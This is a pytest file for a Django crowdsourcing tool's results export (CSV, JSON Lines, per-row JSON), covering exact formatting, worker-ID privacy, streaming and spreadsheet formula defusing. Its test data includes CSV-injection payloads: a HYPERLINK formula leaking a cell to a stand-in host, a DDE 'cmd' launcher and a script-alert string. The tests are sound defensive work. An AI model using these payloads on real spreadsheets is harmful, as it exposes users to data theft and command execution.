"""Results as they are taken away: the requester site's CSV to the letter, JSON Lines, and one JSON item per row."""

import csv
import io
import json
import tracemalloc
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from django.db import connection as database
from django.test.utils import CaptureQueriesContext

from mturkhub.common import clock
from mturkhub.common.models import Installation
from projects import exporting, results_table
from projects.exporting import Chosen, results_json, results_jsonl
from projects.models import Assignment
from projects.results_table import results_csv
from tests.factories import AssignmentFactory, BatchFactory, TeamWorkerFactory, WorkerFactory

pytestmark = pytest.mark.django_db

WINTER = datetime(2026, 1, 15, 20, 0, tzinfo=UTC)
SUMMER = datetime(2026, 7, 15, 20, 0, tzinfo=UTC)


@pytest.fixture(autouse=True)
def stopped_clock(monkeypatch):
    monkeypatch.setattr(clock, "now", lambda: SUMMER + timedelta(days=1))


@pytest.fixture
def make_batch(olive, connection):
    def make(*inputs, **more):
        return BatchFactory(
            project__team=olive.team,
            connection=connection,
            published=True,
            rows=list(inputs) or 1,
            columns=list(inputs[0]) if inputs else ["text"],
            **{"answer_fields": ["sentiment"], **more},
        )

    return make


@pytest.fixture
def worker(olive, connection):
    found = WorkerFactory(connection=connection, mturk_id="A1REALWORKER")
    TeamWorkerFactory(team=olive.team, worker=found, pseudonym="W-7Q2M4K")
    return found


def give(batch, *answers, **more):
    """One answer for each of these fields, to the rows in turn."""
    hits = list(batch.hits.order_by("row__number"))
    return [
        AssignmentFactory(hit=hits[number % len(hits)], answer__fields=fields, **more)
        for number, fields in enumerate(answers)
    ]


# What a spreadsheet would compute, and how it is written for one.
FORMULAS = [
    ("=1+1", "'=1+1"),
    (
        '=HYPERLINK("https://elsewhere.example/?"&A1,"x")',
        '\'=HYPERLINK("https://elsewhere.example/?"&A1,"x")',
    ),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t'=1"),
    ("\r=1", "'\r'=1"),
    ("＝1+1", "'＝1+1"),
    ("-", "'-"),
    ("a;=1", "a;'=1"),
    ("a\n=1", "a\n'=1"),
    # Numbers and what is harmless.
    ("-5", "-5"),
    ("+1.5e3", "+1.5e3"),
    ("-.5", "-.5"),
    ("5", "5"),
    ("-5 apples", "'-5 apples"),
    ("-٥", "'-٥"),
    ("a=1", "a=1"),
    ("'=1", "'=1"),
    ("", ""),
]


def text_of(lines):
    return b"".join(lines).decode()


def table_of(lines):
    return list(csv.DictReader(io.StringIO(text_of(lines), newline="")))


# The requester site's CSV -------------------------------------------------------------------------

GOLDEN = (
    '"HITId","HITTypeId","Title","Description","Keywords","Reward","CreationTime","MaxAssignments",'
    '"RequesterAnnotation","AssignmentDurationInSeconds","AutoApprovalDelayInSeconds","Expiration",'
    '"NumberOfSimilarHITs","LifetimeInSeconds","AssignmentId","WorkerId","AssignmentStatus","AcceptTime",'
    '"SubmitTime","AutoApprovalTime","ApprovalTime","RejectionTime","RequesterFeedback","WorkTimeInSeconds",'
    '"LifetimeApprovalRate","Last30DaysApprovalRate","Last7DaysApprovalRate",'
    '"Input.text","Input.note","Answer.q1","Answer.q10","Answer.q2","Approve","Reject"\r\n'
    '"3HIT","3TYPE","A ""title""","In short, this.","text, sentiment","$0.05","Thu Jan 15 12:00:00 PST 2026",'
    '"3","{annotation}","3600","259200","Thu Jan 22 12:00:00 PST 2026",'
    '"","","3FIRST","A1REALWORKER","Approved","Wed Jul 15 12:59:12 PDT 2026",'
    '"Wed Jul 15 13:00:00 PDT 2026","Sat Jul 18 13:00:00 PDT 2026","Wed Jul 15 14:00:00 PDT 2026","","Thank you","48",'
    '"50% (1/2)","100% (1/1)","100% (1/1)",'
    '"Hello, ""you""\nthere","kept","a|b","","  7 ","",""\r\n'
    '"3HIT","3TYPE","A ""title""","In short, this.","text, sentiment","$0.05","Thu Jan 15 12:00:00 PST 2026",'
    '"3","{annotation}","3600","259200","Thu Jan 22 12:00:00 PST 2026",'
    '"","","3SECOND","A2REALWORKER","Submitted","Wed Jul 15 13:59:12 PDT 2026",'
    '"Wed Jul 15 14:00:00 PDT 2026","Sat Jul 18 14:00:00 PDT 2026","","","","48",'
    '"0% (0/0)","0% (0/0)","0% (0/0)",'
    '"Hello, ""you""\nthere","kept","","é 漢字 😀","","",""\r\n'
)


def test_the_csv_is_the_requester_sites_to_the_letter(olive, make_batch, worker):
    batch = make_batch(
        {"text": 'Hello, "you"\nthere', "note": "kept"},
        title='A "title"',
        description="In short, this.",
        answer_fields=["q1", "q10", "q2"],
    )
    hit = batch.hits.get()
    hit.mturk_id, hit.mturk_created_at, hit.expires_at = "3HIT", WINTER, WINTER + timedelta(days=7)
    hit.save()
    hit.hit_type.mturk_id = "3TYPE"
    hit.hit_type.save()
    AssignmentFactory(
        hit=hit,
        worker=worker,
        mturk_id="3FIRST",
        status="Approved",
        submitted_at=SUMMER,
        feedback="Thank you",
        answer__fields={"q1": ["a", "b"], "q10": [""], "q2": ["  7 "]},
    )
    AssignmentFactory(
        hit=hit,
        worker=WorkerFactory(connection=batch.connection, mturk_id="A2REALWORKER"),
        mturk_id="3SECOND",
        submitted_at=SUMMER + timedelta(hours=1),
        answer__fields={"q10": ["é 漢字 😀"]},
    )
    # Half a year ago, in another batch: it counts for the lifetime rate alone.
    elsewhere = make_batch()
    AssignmentFactory(hit=elsewhere.hits.get(), worker=worker, status="Rejected", submitted_at=WINTER)

    ours = f"Mturkhub:{Installation.current_id()}/{hit.public_id};"
    annotation = f"BatchId:{batch.pk};OriginalHitTemplateId:{batch.project_id};{ours}"
    assert text_of(results_csv(batch, by=olive.actor)) == GOLDEN.replace("{annotation}", annotation)


def test_the_header_alone_comes_where_nobody_has_answered(olive, make_batch):
    batch = make_batch({"text": "one"}, answer_fields=[])

    lines = text_of(results_csv(batch, by=olive.actor)).splitlines()

    assert len(lines) == 1
    assert lines[0].endswith('"Input.text","Approve","Reject"')


HOSTILE = [
    "=HYPERLINK(\"http://x\",\"y\")",
    "+1", "-1", "@SUM(A1)", "\tcmd", "'quoted'",
    'a "b" c', "line\nbreak", "cr\r\nlf", "\rcr", " space ", "", "|", "a,b;c", "\u202egnp.exe", "<script>alert(1)</script>",
    "x" * 65_535,
]  # fmt: skip


@pytest.mark.parametrize("value", HOSTILE, ids=lambda value: repr(value[:12]))
def test_every_value_comes_out_as_it_was_given(olive, make_batch, value):
    batch = make_batch({"text": value})
    give(batch, {"sentiment": [value]})

    (line,) = table_of(results_csv(batch, by=olive.actor))
    record = json.loads(text_of(results_jsonl(batch, by=olive.actor)))

    assert (line["Input.text"], line["Answer.sentiment"]) == (value, value)
    assert (record["input"], record["output"]) == ({"text": value}, {"sentiment": value})


def test_columns_the_template_does_not_use_come_in_the_order_of_the_file(olive, make_batch):
    batch = make_batch({"z": "1", "text": "hello", "a": "2"})
    give(batch, {"sentiment": ["7"]})

    header = text_of(results_csv(batch, by=olive.actor)).splitlines()[0]

    assert '"Input.z","Input.text","Input.a","Answer.sentiment"' in header


def test_json_values_of_the_input_are_written_as_the_worker_saw_them(olive, make_batch):
    values = {"text": None, "list": [1, "two"], "number": 7, "yes": True}
    batch = make_batch(values)
    give(batch, {"sentiment": ["7"]})

    (line,) = table_of(results_csv(batch, by=olive.actor))
    record = json.loads(text_of(results_jsonl(batch, by=olive.actor)))

    assert [line[f"Input.{name}"] for name in values] == ["", '[1, "two"]', "7", "true"]
    assert record["input"] == values


# Whose answers, in which order --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("role", "shown"),
    [("olive", "A1REALWORKER"), ("mina", "W-7Q2M4K"), ("ravi", "W-7Q2M4K"), ("vera", "W-7Q2M4K")],
)
def test_only_who_may_identify_workers_reads_real_ids(request, make_batch, worker, role, shown):
    by = request.getfixturevalue(role).actor
    batch = make_batch()
    give(batch, {"sentiment": ["7"]}, worker=worker)

    (line,) = table_of(results_csv(batch, by=by))
    record = json.loads(text_of(results_jsonl(batch, by=by)))
    items = text_of(results_json(batch, by=by))

    assert (line["WorkerId"], record["worker_id"]) == (shown, shown)
    assert "A1REALWORKER" not in items


@pytest.mark.parametrize("results", [results_csv, results_jsonl, results_json])
def test_stan_takes_nothing_away(stan, make_batch, results):
    from mturkhub.common.errors import ActionRefused

    with pytest.raises(ActionRefused, match="People outside the team may not download results"):
        results(make_batch(), by=stan.actor)


def test_answers_come_row_by_row_and_then_as_they_were_given(olive, make_batch):
    batch = make_batch({"text": "one"}, {"text": "two"})
    late, other, early = give(batch, *[{"sentiment": [text]} for text in "abc"])
    Assignment.objects.filter(pk=early.pk).update(submitted_at=late.submitted_at - timedelta(hours=1))

    lines = table_of(results_csv(batch, by=olive.actor))

    assert [line["AssignmentId"] for line in lines] == [early.mturk_id, late.mturk_id, other.mturk_id]


def test_answers_left_out_are_exported_only_when_asked_for(olive, make_batch):
    batch = make_batch()
    kept, left_out = give(batch, {"sentiment": ["1"]}, {"sentiment": ["9"]})
    Assignment.objects.filter(pk=left_out.pk).update(left_out_at=SUMMER)
    everything = Chosen(with_left_out=True)

    usual = table_of(results_csv(batch, by=olive.actor))
    full = table_of(results_csv(batch, by=olive.actor, chosen=everything))
    records = [
        json.loads(line)
        for line in text_of(results_jsonl(batch, by=olive.actor, chosen=everything)).splitlines()
    ]
    (item,) = json.loads(text_of(results_json(batch, by=olive.actor)))

    assert [line["AssignmentId"] for line in usual] == [kept.mturk_id]
    assert [line["AssignmentId"] for line in full] == [kept.mturk_id, left_out.mturk_id]
    assert [record["left_out"] for record in records] == [False, True]
    assert (item["answers"], item["avg_answer"]) == ([1], 1.0)


# JSON Lines ---------------------------------------------------------------------------------------


def test_a_json_line_holds_everything_known_of_an_answer(olive, make_batch, worker):
    batch = make_batch({"text": "hello"}, answer_fields=["both", "none", "one"])
    (answer,) = give(
        batch,
        {"one": ["7"], "both": ["a", "b"], "none": []},
        worker=worker,
        submitted_at=SUMMER,
        status="Rejected",
        feedback="Too short.",
    )

    assert json.loads(text_of(results_jsonl(batch, by=olive.actor))) == {
        "assignment_id": answer.mturk_id,
        "hit_id": answer.hit.mturk_id,
        "worker_id": "A1REALWORKER",
        "row": 1,
        "status": "Rejected",
        "accept_time": "2026-07-15T19:59:12Z",
        "submit_time": "2026-07-15T20:00:00Z",
        "approval_time": None,
        "rejection_time": "2026-07-15T21:00:00Z",
        "feedback": "Too short.",
        "bonuses": [],
        "work_time_in_seconds": 48,
        "left_out": False,
        "input": {"text": "hello"},
        "output": {"both": ["a", "b"], "none": [], "one": "7"},
    }


def test_each_json_line_is_one_line(olive, make_batch):
    batch = make_batch({"text": "a\nb\u2028c"})
    give(batch, {"sentiment": ["1\n2"]}, {"sentiment": ["3"]})

    lines = text_of(results_jsonl(batch, by=olive.actor)).split("\n")

    assert [json.loads(line)["output"]["sentiment"] for line in lines if line] == ["1\n2", "3"]


# One item per row ---------------------------------------------------------------------------------


def test_each_row_is_an_item_with_its_answers_and_their_mean(olive, make_batch):
    batch = make_batch({"text": "one"}, {"text": "two"}, {"text": "three"})
    give(batch, *[{"sentiment": [score]} for score in ("2", "7.5", "no", "3", "8", "maybe")])
    from projects.counting import recount

    recount(batch.rows.values_list("pk", flat=True))
    hits = list(batch.hits.order_by("row__number").values_list("mturk_id", flat=True))

    assert json.loads(text_of(results_json(batch, by=olive.actor))) == [
        {
            "item": "one",
            "hit_id": hits[0],
            "status": "Assignable",
            "assignments_submitted_count": 2,
            "answers": [2, 3],
            "avg_answer": 2.5,
        },
        {
            "item": "two",
            "hit_id": hits[1],
            "status": "Assignable",
            "assignments_submitted_count": 2,
            "answers": [7.5, 8],
            "avg_answer": 7.75,
        },
        {
            "item": "three",
            "hit_id": hits[2],
            "status": "Assignable",
            "assignments_submitted_count": 2,
            "answers": ["no", "maybe"],
            "avg_answer": None,
        },
    ]


def test_an_item_of_several_columns_is_the_whole_row_and_one_without_answers_has_no_mean(olive, make_batch):
    batch = make_batch({"text": "one", "id": "17"}, answer_fields=[])

    (item,) = json.loads(text_of(results_json(batch, by=olive.actor)))

    # In the order of the upload, which is neither the alphabet's nor the database's.
    assert list(item["item"].items()) == [("text", "one"), ("id", "17")]
    assert (item["answers"], item["avg_answer"]) == ([], None)


@pytest.mark.parametrize("answer", ["1e999999", "-1e400", "NaN", "Infinity", "1_000", "9" * 5000, "0x10", ""])
def test_what_no_program_could_read_as_a_number_stays_text(olive, make_batch, answer):
    batch = make_batch()
    give(batch, {"sentiment": [answer]}, {"sentiment": ["1e999999"]})

    (item,) = json.loads(
        text_of(results_json(batch, by=olive.actor)), parse_constant=lambda name: pytest.fail(name)
    )

    assert item["answers"] == [answer, "1e999999"]
    assert item["avg_answer"] is None


def test_the_mean_is_of_the_field_the_project_names(olive, make_batch):
    batch = make_batch(answer_fields=["age", "score"], project__main_field="score")
    give(batch, {"age": ["50"], "score": ["1"]}, {"age": ["60"], "score": ["2"]})

    (item,) = json.loads(text_of(results_json(batch, by=olive.actor)))

    assert (item["answers"], item["avg_answer"]) == ([1, 2], 1.5)


# Size ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("results", [results_csv, results_jsonl, results_json])
def test_fifty_rows_take_as_many_queries_as_five(olive, make_batch, results):
    few = make_batch(*[{"text": str(number)} for number in range(5)])
    many = make_batch(*[{"text": str(number)} for number in range(50)])
    give(few, *[{"sentiment": ["7"]}] * 5)
    give(many, *[{"sentiment": ["7"]}] * 50)
    text_of(results(few, by=olive.actor))

    counts = []
    for batch in (few, many):
        with CaptureQueriesContext(database) as queries:
            text_of(results(batch, by=olive.actor))
        counts.append(len(queries))

    assert counts[0] == counts[1]


@pytest.mark.parametrize("results", [results_csv, results_jsonl, results_json])
def test_an_export_holds_a_few_answers_in_memory_at_a_time(olive, make_batch, monkeypatch, results):
    for module in (exporting, results_table):
        monkeypatch.setattr(module, "CHUNK", 2)
    batch = make_batch(*[{"text": str(number)} for number in range(40)])
    give(batch, *[{"sentiment": ["x" * 60_000]}] * 40)
    lines = results(batch, by=olive.actor)

    tracemalloc.start()
    largest = max(len(line) for line in lines)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    # All forty answers are 2.4 MB, and as much again in XML; two at a time are far less.
    assert largest > 60_000
    assert peak < 1_500_000


def test_the_header_comes_before_any_answer_is_read(olive, make_batch, django_assert_num_queries):
    lines = results_csv(make_batch(), by=olive.actor)

    with django_assert_num_queries(0):
        assert next(lines).startswith(b'"HITId"')


def test_money_is_written_with_two_decimals(olive, make_batch):
    batch = make_batch(reward=Decimal("1.5"))
    batch.refresh_from_db()
    give(batch, {"sentiment": ["7"]})

    (line,) = table_of(results_csv(batch, by=olive.actor))

    assert line["Reward"] == "$1.50"


# For spreadsheets ---------------------------------------------------------------------------------


@pytest.mark.parametrize(("given", "written"), FORMULAS)
def test_for_a_spreadsheet_no_cell_is_a_formula_and_numbers_stay_numbers(olive, make_batch, given, written):
    batch = make_batch({"text": given})
    give(batch, {"sentiment": [given]})

    [line] = csv.DictReader(
        io.StringIO(
            text_of(results_csv(batch, by=olive.actor, spreadsheet=True)).removeprefix("\ufeff"), newline=""
        )
    )
    [exact] = table_of(results_csv(batch, by=olive.actor))

    assert line["Input.text"] == line["Answer.sentiment"] == written
    assert exact["Input.text"] == exact["Answer.sentiment"] == given


def test_for_a_spreadsheet_titles_feedback_and_column_names_are_defused_too(olive, make_batch):
    batch = make_batch({"=a": "x"}, title="=title", answer_fields=["-field"])
    give(batch, {"-field": ["y"]}, feedback="@you")

    text = text_of(results_csv(batch, by=olive.actor, spreadsheet=True))

    assert text.startswith('\ufeff"HITId"')
    cells = [cell for line in csv.reader(io.StringIO(text[1:], newline="")) for cell in line]
    assert {"'=title", "'@you", "Input.=a", "Answer.-field"} <= set(cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]


def test_for_a_spreadsheet_it_is_streamed_as_well(olive, make_batch, monkeypatch):
    monkeypatch.setattr(results_table, "CHUNK", 1)
    batch = make_batch(*[{"text": "=1"}] * 3)
    give(batch, *[{"sentiment": ["1"]}] * 3)

    lines = results_csv(batch, by=olive.actor, spreadsheet=True)

    assert [len(next(lines)) for _ in range(2)]
    assert len(list(lines)) == 3
